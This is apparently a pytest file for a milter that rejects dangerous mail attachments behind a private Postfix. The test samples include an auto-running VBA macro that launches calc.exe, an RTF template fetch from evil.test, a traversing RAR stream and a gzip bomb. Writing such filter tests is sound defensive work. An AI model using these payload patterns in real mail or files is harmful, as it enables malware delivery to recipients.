"""Attachments behind a real Postfix: what is in them decides, and a bomb stops nobody."""

from __future__ import annotations

import base64
import gzip
import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from harness.archives import AES, PROGRAM, rar5, sevenzipped, tarred, vba_project, zipped
from harness.daemon import Daemon
from harness.postfix import PrivatePostfix, why_not

pytestmark = [pytest.mark.live, pytest.mark.skipif(bool(why_not()), reason=why_not())]

POLICY = """
checks: {attachments: }
rules:
  message:
    - id: executable
      when: {any: [{attachments.extension: [exe, js]}, {attachments.executable: true}]}
      then: reject
      reply: "550 5.7.1 program in {attachments.count} attachment"
    - id: macros
      when: {attachments.macro_autoexec: true}
      then: reject
      reply: "550 5.7.1 macros with {attachments.macro_keywords}"
    - {id: fetches, when: {attachments.fetches: true}, then: reject, reply: "550 5.7.1 loads something"}
    - {id: unseen, when: {attachments: neutral}, then: reject, reply: "550 5.7.1 not looked at: {attachments.excess}"}
"""
MACRO = b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n'


@pytest.fixture(scope="module")
def postfix():
    with PrivatePostfix(milter=True) as instance, Daemon("milter", POLICY, listen=f"unix:{instance.milter_socket}"):
        yield instance


def send(postfix, name, content):
    fields = f'Content-Type: application/octet-stream; name="{name}"\r\nContent-Transfer-Encoding: base64\r\n'
    body = base64.encodebytes(content).replace(b"\n", b"\r\n")
    mail = b"From: a@sender.test\r\nMIME-Version: 1.0\r\n" + fields.encode() + b"\r\n" + body
    return postfix.send("a@sender.test", "r@example.org", mail, raw=True, xclient={"addr": "192.0.2.7"}).final


@pytest.mark.parametrize(
    ("name", "content", "reply"),
    [
        ("a.txt", b"hello", (250, "")),
        ("a.zip", zipped(("b.tgz", tarred(("evil.exe", b"x"), mode="w:gz"))), (550, "program in 1 attachment")),
        ("a.pdf", PROGRAM, (550, "program in 1 attachment")),
        ("big.zip", zipped(("a.bin", os.urandom(3 << 20)), ("b.pdf", PROGRAM)), (550, "program in 1 attachment")),
        ("big.bin", os.urandom(3 << 20), (250, "")),
        ("a.doc", vba_project(MACRO), (550, "macros with Shell")),
        ("a.doc", b"{\\rtf1{\\*\\template \\u-65432?ttp://evil.test/a}}", (550, "loads something")),
        ("a.rar", rar5((b"a", b"x", False, 0), streams=[(":..\\b.js", b"x")]), (550, "program in 1 attachment")),
        ("a.7z", sevenzipped(("a", b"x"), coder=AES), (550, "not looked at")),
        ("a.gz", gzip.compress(bytes(1 << 27), mtime=0), (550, "not looked at: ratio 100")),
    ],
    ids=["text", "nested", "disguised", "spooled-zip", "spooled", "macros", "template", "stream", "encrypted", "bomb"],
)
def test_what_is_attached_decides(postfix, name, content, reply):
    told = send(postfix, name, content)
    assert told.code == reply[0], told
    assert reply[1] in told.text


@pytest.mark.slow
def test_ten_large_attachments_at_once_stand_in_memory_one_after_the_other():
    limits = {"message_size_limit": "104857600", "virtual_mailbox_limit": "0"}
    content = os.urandom(24 << 20)  # 33 MB in base64
    with PrivatePostfix(milter=True, main=limits) as postfix:
        checks = "checks: {attachments: , content: }"
        with Daemon("milter", checks, listen=f"unix:{postfix.milter_socket}", workers=1) as daemon:
            [worker] = daemon.worker_pids()
            with ThreadPoolExecutor(10) as clients:
                answers = list(clients.map(lambda number: send(postfix, f"{number}.bin", content), range(10)))
            status = Path(f"/proc/{worker}/status").read_text()
    assert {answer.code for answer in answers} == {250}
    assert int(status.split("VmHWM:")[1].split()[0]) * 1024 < 150_000_000
